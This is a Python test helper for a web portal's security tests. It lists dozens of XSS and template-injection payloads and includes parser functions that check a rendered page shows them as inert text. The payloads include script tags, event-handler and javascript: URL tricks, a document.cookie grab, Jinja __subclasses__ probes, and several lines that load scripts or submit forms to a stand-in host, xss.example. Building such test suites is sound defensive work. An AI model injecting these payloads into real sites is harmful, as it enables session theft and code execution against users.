"""XSS payloads for every text the portal shows, and the check that a page rendered them as inert text.

PAYLOADS is shared with the browser tests: each payload that ran would call alert(), so a browser that sees a
dialog has found a hole. Every payload fits the shortest text field that must show it whole (100 characters) and
holds no NUL (PostgreSQL refuses it in text; the forms drop it).
"""
from __future__ import annotations

import re
import unicodedata
from functools import lru_cache
from html.parser import HTMLParser

#: name → payload
PAYLOADS: dict[str, str] = {
    "script tag": "<script>alert(1)</script>",
    "script tag, upper case, remote": "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "double-quote breakout + script": '"><script>alert(document.cookie)</script>',
    "single-quote breakout + script": "'><script>alert(1)</script>",
    "textarea breakout": "</textarea><script>alert(1)</script>",
    "title breakout": "</title><script>alert(1)</script>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror, quoted, Chinese": "<img src=\"x\" onerror=\"alert('反映问题')\">",
    "body onload": "<body onload=alert(1)>",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg xlink javascript": '<svg><a xlink:href="javascript:alert(1)"><text y="20">点</text></a></svg>',
    "math mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "anchor javascript, Chinese": '<a href="javascript:alert(1)">点击查看整改</a>',
    "anchor javascript, entity-encoded": '<a href="&#106;avascript:alert(1)">链接</a>',
    "bare javascript URL": "javascript:alert(1)",
    "javascript URL with a tab entity": "jav&#x09;ascript:alert(1)",
    "data URL": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "object data URL": '<object data="data:text/html,<script>alert(1)</script>">',
    "embed javascript": "<embed src=javascript:alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "CSS url javascript": '<div style="background:url(javascript:alert(1))">',
    "CSS expression": '<div style="width:expression(alert(1))">',
    "style import": "<style>@import 'javascript:alert(1)';</style>",
    "remote stylesheet": "<link rel=stylesheet href=//xss.example/x.css>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="//xss.example/">',
    "form to elsewhere": "<form action=//xss.example><button>提交</button></form>",
    "broken: doubled bracket": "<<script>alert(1)//<</script>",
    "broken: unclosed img": "<img src=x onerror=alert(1)//",
    "broken: nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "broken: comment trick": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "broken: CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "broken: noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template element": "<template><script>alert(1)</script></template>",
    "attribute breakout, double quote": '" onmouseover="alert(1)',
    "attribute breakout, single quote": "' onfocus='alert(1)' autofocus='",
    "attribute breakout, unquoted": "x autofocus onfocus=alert(1) a=",
    "attribute breakout, backtick": "`onerror=alert(1)`",
    "Jinja expression": "{{7*7}}",
    "Jinja config": "{{ config.items() }}",
    "Jinja statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "other template syntaxes": "${7*7} #{7*7} <%= 7*7 %>",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "right-to-left override": "\u202e>tpircs/<)1(trela>tpircs<",
    "zero-width space in the tag": "<scri\u200bpt>alert(1)</scri\u200bpt>",
    "Chinese around a script": '整改意见<script>alert("整改")</script>请领导审阅',
    "Chinese around an img": "关于第35项问题的反映：<img src=x onerror=alert('匿名')>谢谢",
    "emoji and svg": "😀<svg/onload=alert(1)>",
    "URL-encoded script": "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "already escaped script": "&lt;script&gt;alert(1)&lt;/script&gt;",
}

#: attributes that hold a URL a browser follows or loads
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
                            "srcdoc", "codebase", "cite", "ping"})
#: schemes that run code or smuggle a document
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Parsed(HTMLParser):
    """The elements of a page, as (tag, attributes), and all its text: data and attribute values, decoded."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))
        self.texts.extend(value for _, value in attrs if value)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


@lru_cache(maxsize=8)
def parse(html: str) -> _Parsed:
    """html parsed (the last few pages are kept: each is read for its elements and then for its text)."""
    parsed = _Parsed()
    parsed.feed(html)
    parsed.close()
    return parsed


def signatures(html: str) -> set[tuple[str, frozenset[str]]]:
    """Each element of a page as its tag and the set of its attribute names."""
    return {(tag, frozenset(name for name, _ in attrs)) for tag, attrs in parse(html).elements}


def _scheme_of(value: str) -> str:
    """A URL's scheme as a browser reads it: entities decoded already, blanks and control characters ignored."""
    return re.sub(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028-\u202e\ufeff]", "", value).lower()


def markup_problems(html: str, allowed: set[tuple[str, frozenset[str]]]) -> list[str]:
    """What in html did not come from a template: elements unlike any in allowed, event handlers, script URLs."""
    problems = []
    for tag, attrs in parse(html).elements:
        names = frozenset(name for name, _ in attrs)
        if (tag, names) not in allowed:
            problems.append(f"<{tag} {' '.join(sorted(names))}> is not an element the templates make")
        problems += [f"<{tag}> has the event handler {name}" for name in names if name.startswith("on")]
        problems += [f"<{tag} {name}={value!r}> loads a script URL" for name, value in attrs
                     if name in URL_ATTRIBUTES and value and _scheme_of(value).startswith(BAD_SCHEMES)]
        problems += [f"<{tag} style={value!r}>" for name, value in attrs if name == "style" and value]
    return problems


def shown_text(html: str) -> str:
    """All the text of a page as a reader (or a form field) gets it, blanks collapsed."""
    return " ".join(" ".join(parse(html).texts).split())


def as_shown(text: str) -> str:
    """A stored text as shown_text has it: control characters gone, blanks collapsed."""
    kept = "".join(ch for ch in text if unicodedata.category(ch) != "Cc")
    return " ".join(kept.split())
